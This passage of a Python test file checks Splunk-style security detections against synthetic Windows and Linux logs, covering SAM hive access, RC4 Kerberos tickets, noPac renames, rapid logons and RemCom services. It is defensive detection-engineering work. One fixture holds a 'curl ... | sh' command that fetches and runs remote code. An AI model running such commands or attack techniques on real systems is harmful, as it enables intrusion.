            **base,
            "ShareName": r"\\*\C$",
            "RelativeTargetName": r"Windows\Temp\psexesvc.exe",
            "firstTime": ctime(0),
            "lastTime": str(int(at(0).timestamp())),
        },
    ]


def object_access(seconds: float, process: str, name: str) -> str:
    data = {
        "SubjectUserSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e4ab2",
        "ObjectServer": "Security",
        "ObjectType": "File",
        "ObjectName": name,
        "HandleId": "0x1f4",
        "AccessList": "%%4416",
        "AccessMask": "0x1",
        "ProcessId": "0x1a2c",
        "ProcessName": process,
        "ResourceAttributes": "S:AI",
    }
    return security(4663, data, seconds, computer="wks-1.corp.local")


def test_sam_database_file_access_attempt(corpus: ContentSet, tmp_path: Path) -> None:
    tool = r"C:\Users\alice\Downloads\dumper.exe"
    sam = r"C:\Windows\System32\config\SAM"
    device = r"\Device\HarddiskVolume3\Windows\System32\config\SYSTEM"
    lines = [
        object_access(0, tool, sam),
        object_access(10, tool, device),  # 4663 often names the volume device: still under \Windows\System32\config
        object_access(20, r"C:\Windows\System32\dllhost.exe", sam),  # near miss: excluded process
        object_access(30, tool, r"C:\Windows\System32\config\SOFTWARE"),  # near miss: another hive
    ]
    rows = run(corpus, SAM_ACCESS, lines, tmp_path)
    # values() is a multivalue field: one value here, which tunnelhunt gives as a one-element list.
    base = {
        "process_name": tool,
        "dest": "wks-1.corp.local",
        "src_user": "alice",
        "values(AccessList)": ["%%4416"],
        "count": 1,
    }
    assert rows == [{**base, "ObjectName": sam}, {**base, "ObjectName": device}]


def tgt_request(seconds: float, user: str, encryption: str, service: str = "krbtgt") -> str:
    data = {
        "TargetUserName": user,
        "TargetDomainName": "CORP.LOCAL",
        "TargetSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
        "ServiceName": service,
        "ServiceSid": "S-1-5-21-3344543075-1022232225-2459664213-502",
        "TicketOptions": "0x40810010",
        "Status": "0x0",
        "TicketEncryptionType": encryption,
        "PreAuthType": "2",
        # Windows writes IPv4 clients as ::ffff:a.b.c.d; whether the add-on's src_ip strips that prefix is not
        # documented in security_content, so these events carry a plain address.
        "IpAddress": "10.0.0.31",
        "IpPort": "50911",
        "CertIssuerName": "",
        "CertSerialNumber": "",
        "CertThumbprint": "",
    }
    return security(4768, data, seconds)


def test_kerberos_tgt_request_using_rc4_encryption(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        tgt_request(0, "alice", "0x17"),
        tgt_request(10, "bob", "0x17"),
        tgt_request(20, "alice", "0x12"),  # near miss: AES256
        tgt_request(30, "WKS-1$", "0x17", service="WKS-1$"),  # near miss: ServiceName ends with $
        tgt_request(40, "alice", "0x170"),  # near miss: not the whole value
    ]
    rows = run(corpus, RC4_TGT, lines, tmp_path)
    assert rows == [
        {"ServiceName": "krbtgt", "src_ip": "10.0.0.31", "dest": "dc01.corp.local", "count": 2, **times(0, 10)}
    ]


def service_ticket(seconds: float, user: str, service: str) -> str:
    data = {
        "TargetUserName": user,
        "TargetDomainName": "CORP.LOCAL",
        "ServiceName": service,
        "ServiceSid": "S-1-5-21-3344543075-1022232225-2459664213-1000",
        "TicketOptions": "0x40810000",
        "TicketEncryptionType": "0x12",
        "IpAddress": "10.0.0.31",
        "IpPort": "50912",
        "Status": "0x0",
        "LogonGuid": "{9d2c7ac4-1b2f-1c04-7e63-b4cc39bf3ef2}",
        "TransmittedServices": "-",
    }
    return security(4769, data, seconds)


def test_suspicious_kerberos_service_ticket_request(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        service_ticket(0, "DC01@CORP.LOCAL", "dc01"),  # sAMAccountName spoofing: the service is the user's own name
        service_ticket(10, "alice@CORP.LOCAL", "DC01$"),  # near miss
        service_ticket(20, "DC01", "DC01$"),  # near miss: the $ differs
    ]
    rows = run(corpus, KERBEROS_SPOOF, lines, tmp_path)
    # Error_Code is not a field of these events: `table` shows it empty (NULL here).
    assert rows == [
        {
            "_time": at(0).replace(tzinfo=None),
            "dest": "dc01.corp.local",
            "src_ip": "10.0.0.31",
            "user": "DC01@CORP.LOCAL",
            "ServiceName": "dc01",
            "Error_Code": None,
            "isSuspicious": 1,
        }
    ]


def network_logon(seconds: float, computer: str, user: str, ip: str = "10.0.0.66") -> str:
    data = {
        "SubjectUserSid": "S-1-0-0",
        "SubjectUserName": "-",
        "SubjectDomainName": "-",
        "SubjectLogonId": "0x0",
        "TargetUserSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
        "TargetUserName": user,
        "TargetDomainName": "CORP",
        "TargetLogonId": "0x8a7f3e",
        "LogonType": "3",
        "LogonProcessName": "NtLmSsp ",
        "AuthenticationPackageName": "NTLM",
        "WorkstationName": "ATTACKER",
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TransmittedServices": "-",
        "LmPackageName": "NTLM V2",
        "KeyLength": "128",
        "ProcessId": "0x0",
        "ProcessName": "-",
        "IpAddress": ip,
        "IpPort": "51234",
        "ImpersonationLevel": "%%1833",
    }
    return security(4624, data, seconds, computer=computer)


def test_windows_rapid_authentication_on_multiple_hosts(corpus: ContentSet, tmp_path: Path) -> None:
    hosts = [f"srv{i:02d}.corp.local" for i in range(31)]
    lines = [network_logon(i, host, "alice") for i, host in enumerate(hosts)]  # 31 hosts in one 5-minute bucket
    lines += [network_logon(i, host, "bob") for i, host in enumerate(hosts[:30])]  # near miss: 30 is not > 30
    lines += [network_logon(i, host, "ANONYMOUS LOGON") for i, host in enumerate(hosts)]  # near miss: excluded
    lines += [network_logon(i, host, "SVC01$") for i, host in enumerate(hosts)]  # near miss: machine account
    lines += [
        network_logon(270 + i, host, "carol") for i, host in enumerate(hosts)
    ]  # near miss: 30 + 1 over two buckets
    rows = run(corpus, RAPID_AUTH, lines, tmp_path)
    assert rows == [
        {
            "_time": T0.replace(tzinfo=None),
            "IpAddress": "10.0.0.66",
            "TargetUserName": "alice",
            "unique_targets": 31,
            "host_targets": sorted(hosts),
        }
    ]


def test_suspicious_computer_account_name_change(corpus: ContentSet, tmp_path: Path) -> None:
    def renamed(seconds: float, old: str, new: str) -> str:
        data = {
            "OldTargetUserName": old,
            "NewTargetUserName": new,
            "TargetDomainName": "CORP",
            "TargetSid": "S-1-5-21-3344543075-1022232225-2459664213-3601",
            "SubjectUserSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
            "SubjectUserName": "alice",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e4ab2",
            "PrivilegeList": "-",
        }
        return security(4781, data, seconds)

    lines = [
        renamed(0, "EVILPC$", "DC01"),  # noPac: a machine account renamed to a DC's name without $
        renamed(10, "WKS-7$", "WKS-8$"),  # near miss: still a machine account
        renamed(20, "bob", "robert"),  # near miss: a user account
    ]
    rows = run(corpus, COMPUTER_RENAME, lines, tmp_path)
    # Caller_User_Name is the legacy (text-rendered) name; XmlWinEventLog events carry SubjectUserName instead,
    # so Splunk's table shows it empty, as tunnelhunt does (NULL).
    assert rows == [
        {
            "_time": at(0).replace(tzinfo=None),
            "dest": "dc01.corp.local",
            "Caller_User_Name": None,
            "OldTargetUserName": "EVILPC$",
            "NewTargetUserName": "DC01",
        }
    ]


def task_created(seconds: float, name: str, command: str) -> str:
    content = (
        '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        "<Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>"
        f'<Actions Context="Author"><Exec><Command>{command}</Command></Exec></Actions></Task>'
    )
    data = {
        "SubjectUserSid": "S-1-5-21-3344543075-1022232225-2459664213-1104",
        "SubjectUserName": "alice",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e4ab2",
        "TaskName": name,
        "TaskContent": content,  # written escaped once more inside the event XML, as Windows does
    }
    return security(4698, data, seconds, computer="wks-1.corp.local")


ENTITIES_DECODED = (
    "Splunk's XmlWinEventLog extraction keeps XML entities in field values (ESCU searches '&lt;Command&gt;', "
    "'&amp;&gt;/dev/null'); tunnelhunt stores decoded values for every transport (docs/spl-semantics.md)"
)
TA_LOOKUPS = (
    "action and subject come from Splunk_TA_windows lookups by EventCode (4624: action=success, "
    "subject='An account was successfully logged on.'); tunnelhunt sets neither, as the TA's tables are not public data"
)


def _tasks(seconds: float = 0) -> list[str]:
    launcher = r"C:\Windows\System32\CompMgmtLauncher.exe"
    return [
        task_created(seconds, r"\Microsoft\Windows\Bypass", launcher),
        task_created(seconds + 10, r"\Updater", launcher + ".bak"),  # near miss: another command
        task_created(seconds + 20, r"\Viewer", r"C:\Windows\System32\eventvwr.exe"),  # near miss: .exe, not the .msc
    ]


@pytest.mark.xfail(strict=True, reason=f"{TA_LOOKUPS} (`by ... action` drops every event); and {ENTITIES_DECODED}")
def test_windows_scheduled_tasks_for_compmgmtlauncher_or_eventvwr(corpus: ContentSet, tmp_path: Path) -> None:
    rows = run(corpus, COMPMGMT_TASK, _tasks(), tmp_path)
    assert [(r["dest"], r["TaskName"], r["count"]) for r in rows] == [
        ("wks-1.corp.local", r"\Microsoft\Windows\Bypass", 1)
    ]


@pytest.mark.xfail(strict=True, reason=TA_LOOKUPS)
def test_windows_kerberos_local_successful_logon(corpus: ContentSet, tmp_path: Path) -> None:
    def kerberos(seconds: float, ip: str, package: str = "Kerberos") -> str:
        line = network_logon(seconds, "wks-1.corp.local", "Administrator", ip)
        return line.replace(">NTLM</Data>", f">{package}</Data>", 1)

    lines = [kerberos(0, "127.0.0.1"), kerberos(10, "10.0.0.8"), kerberos(20, "127.0.0.1", package="NTLM")]
    rows = run(corpus, KERBEROS_LOCAL, lines, tmp_path)
    assert [(r["dest"], r["src"], r["action"], r["count"]) for r in rows] == [
        ("wks-1.corp.local", "127.0.0.1", "success", 1)
    ]


# --- System 7045 ----------------------------------------------------------------------------------


def test_windows_service_create_remcomsvc(corpus: ContentSet, tmp_path: Path) -> None:
    def service(seconds: float, name: str, path: str) -> str:
        data = {
            "ServiceName": name,
            "ImagePath": path,
            "ServiceType": "user mode service",
            "StartType": "demand start",
            "AccountName": "LocalSystem",
        }
        return win_event(SYSTEM, 7045, data, seconds, "srv01.corp.local", ALICE_SID, qualifiers="16384")

    lines = [
        service(0, "RemCom Service", r"%SystemRoot%\RemComSvc.exe"),
        service(10, "RemComService", r"%SystemRoot%\RemComSvc.exe"),  # near miss: another name
        service(20, "Remote Registry", r"%SystemRoot%\system32\svchost.exe -k localService"),  # near miss
    ]
    rows = run(corpus, REMCOM_SERVICE, lines, tmp_path)
    assert rows == [
        {
            "dest": "srv01.corp.local",
            "ImagePath": r"%SystemRoot%\RemComSvc.exe",
            "ServiceName": "RemCom Service",
            "ServiceType": "user mode service",
            "count": 1,
            **times(0, 0),
        }
    ]


# --- Sysmon for Linux (syslog) ----------------------------------------------------------------------


def linux_process(seconds: float, command: str, pid: str) -> str:
    """A Sysmon for Linux process start in syslog, as the data source's example shows it (double quotes)."""
    moment = at(seconds).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
    data = {
        "RuleName": "-",
        "ProcessGuid": "{ec23eae3-3a27-62f2-085e-16549b550000}",
        "ProcessId": pid,
        "Image": "/bin/bash",
        "CommandLine": command,
        "CurrentDirectory": "/home/ubuntu",
        "User": "ubuntu",
        "ParentProcessId": "15369",
        "ParentImage": "/usr/sbin/sshd",
        "ParentCommandLine": "sshd: ubuntu",
    }
    fields = "".join(f'<Data Name="{k}">{escape(v)}</Data>' for k, v in data.items())
    event = (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        "<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode>"
        f'<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="{moment}"/>'
        '<EventRecordID>1926574</EventRecordID><Correlation/><Execution ProcessID="1465" ThreadID="1465"/>'
        '<Channel>Linux-Sysmon/Operational</Channel><Computer>ar-linux</Computer><Security UserId="0"/></System>'
        f"<EventData>{fields}</EventData></Event>"
    )
    return f"{at(seconds).strftime('%b %d %H:%M:%S')} ar-linux sysmon: {event}"


@pytest.mark.xfail(strict=True, reason=ENTITIES_DECODED)
def test_linux_stdout_redirection_to_dev_null_file(corpus: ContentSet, tmp_path: Path) -> None:
    """Endpoint.Processes from Sysmon for Linux, searched for `*&amp;&gt;/dev/null*`: Splunk's extraction
    keeps the event's entities, so in Splunk this ESCU search finds `&>/dev/null`."""
    lines = [
        linux_process(0, "bash -c 'curl -s http://x/a.sh | sh &>/dev/null'", "100"),
        linux_process(10, "bash -c 'make 2>&1 >/dev/null'", "101"),  # near miss: not `&>`
        linux_process(20, "bash -c 'cat a.log > /dev/null'", "102"),  # near miss
    ]
    rows = run(corpus, DEV_NULL, lines, tmp_path, suffix="log")
    assert [(r["dest"], r["process"], r["process_id"], r["user"], r["count"]) for r in rows] == [
        ("ar-linux", "bash -c 'curl -s http://x/a.sh | sh &amp;&gt;/dev/null'", "100", "ubuntu", 1)
    ]


# --- Linux auditd ---------------------------------------------------------------------------------


def audit_epoch(seconds: float) -> str:
    return f"{at(seconds).timestamp():.3f}"


def syscall(seconds: float, serial: int, comm: str, exe: str, success: str = "yes") -> str:
    """A SYSCALL record as audit.log holds it with log_format=ENRICHED (data_sources: linux_auditd_syscall)."""
    return (
        f"type=SYSCALL msg=audit({audit_epoch(seconds)}:{serial}): arch=c000003e syscall=59 success={success} exit=0 "
        f"a0=556a6d697a58 a1=556a6d68ad00 a2=556a6d69c980 a3=0 items=2 ppid=1300 pid={1300 + serial} "
        "auid=1000 uid=1000 "
        f'gid=1000 euid=0 suid=0 fsuid=0 egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=1 comm="{comm}" exe="{exe}" '
        'subj=unconfined key="rootcmd"\x1dARCH=x86_64 SYSCALL=execve AUID="ubuntu" UID="ubuntu" GID="ubuntu" '
        'EUID="root" SUID="root" FSUID="root" EGID="ubuntu" SGID="ubuntu" FSGID="ubuntu"'
    )


def test_linux_auditd_doas_tool_execution(corpus: ContentSet, tmp_path: Path) -> None:
    lines = [
        "node=lnx-1 " + syscall(0, 1, "doas", "/usr/bin/doas"),
        "node=lnx-1 "
        + syscall(10, 2, "doas-helper", "/usr/local/bin/doas-helper"),  # near miss: comm is the whole value
        "node=lnx-1 " + syscall(20, 3, "sudo", "/usr/bin/sudo"),  # near miss
    ]
    rows = run(corpus, DOAS_EXECUTION, lines, tmp_path, suffix="log")
    assert [(r["comm"], r["exe"], r["UID"], r["pid"], r["count"]) for r in rows] == [
        ("doas", "/usr/bin/doas", "ubuntu", "1301", 1)
    ]


def test_linux_auditd_possible_access_to_sudoers_file(corpus: ContentSet, tmp_path: Path) -> None:
    def path_record(seconds: float, serial: int, name: str) -> str:
        return (
            f"node=lnx-1 type=PATH msg=audit({audit_epoch(seconds)}:{serial}): item=1 "
            f'name="{name}" inode=1292 dev=103:01 '
            "mode=0100440 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"
            '\x1dOUID="root" OGID="root"'
        )

    lines = [
        path_record(0, 1, "/etc/sudoers"),
        path_record(10, 2, "/etc/sudoers.d/90-cloud-init-users"),
        path_record(20, 3, "/home/alice/etc/sudoers"),  # near miss: not under /etc
    ]
    rows = run(corpus, SUDOERS_ACCESS, lines, tmp_path, suffix="log")
    assert [(r["name"], r["nametype"], r["OGID"], r["count"]) for r in rows] == [
        ("/etc/sudoers", "NORMAL", "root", 1),
        ("/etc/sudoers.d/90-cloud-init-users", "NORMAL", "root", 1),
    ]


# --- the detections, by file --------------------------------------------------------------------------

POWERSHELL_REMOTING = "powershell_enable_powershell_remoting.yml"
GPP_DISCOVERY = "windows_powersploit_gpp_discovery.yml"
COM_HIJACKING = "powershell_com_hijacking_inprocserver32_modification.yml"
START_STOP_SERVICE = "powershell_start_or_stop_service.yml"
AMSI_REFLECTION = "unloading_amsi_via_reflection.yml"
REMOTE_THREAD_LSASS = "create_remote_thread_into_lsass.yml"
LSASS_ACCESS = "detect_credential_dumping_through_lsass_access.yml"
SYSTEM_LSASS_HUNT = "windows_hunting_system_account_targeting_lsass.yml"
WERMGR_EXE = "wermgr_process_create_executable_file.yml"
COBALT_PIPES = "cobalt_strike_named_pipes.yml"
TOR_QUERY = "windows_multi_hop_proxy_tor_website_query.yml"
MSI_MODULE = "msi_module_loaded_by_non_system_binary.yml"
WALLPAPER = "modification_of_wallpaper.yml"
REGASM_NETWORK = "detect_regasm_with_network_connection.yml"
SELF_DELETE = "process_deleting_its_process_file_path.yml"
NOTEPAD_NO_ARGS = "notepad_with_no_command_line_arguments.yml"
DEV_NULL = "linux_stdout_redirection_to_dev_null_file.yml"
MOTW_BYPASS = "windows_mark_of_the_web_bypass.yml"
SHARE_DISCOVERY = "network_share_discovery_via_dir_command.yml"
SMB_EXECUTABLE = "executable_file_written_in_administrative_smb_share.yml"
SAM_ACCESS = "sam_database_file_access_attempt.yml"
RC4_TGT = "kerberos_tgt_request_using_rc4_encryption.yml"
KERBEROS_SPOOF = "suspicious_kerberos_service_ticket_request.yml"
COMPUTER_RENAME = "suspicious_computer_account_name_change.yml"
RAPID_AUTH = "windows_rapid_authentication_on_multiple_hosts.yml"
COMPMGMT_TASK = "windows_scheduled_tasks_for_compmgmtlauncher_or_eventvwr.yml"
KERBEROS_LOCAL = "windows_kerberos_local_successful_logon.yml"
REMCOM_SERVICE = "windows_service_create_remcomsvc.yml"
DOAS_EXECUTION = "linux_auditd_doas_tool_execution.yml"
SUDOERS_ACCESS = "linux_auditd_possible_access_to_sudoers_file.yml"
DETECTIONS = [value for key, value in dict(globals()).items() if key.isupper() and str(value).endswith(".yml")]
